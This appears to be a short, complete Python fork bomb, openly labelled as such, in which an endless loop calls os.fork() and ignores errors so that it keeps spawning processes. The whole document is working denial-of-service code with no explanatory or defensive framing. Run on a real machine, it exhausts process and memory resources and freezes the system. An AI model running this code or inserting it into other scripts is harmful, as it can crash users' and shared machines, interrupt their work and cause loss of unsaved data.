# Python flavour of the fork bomb.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
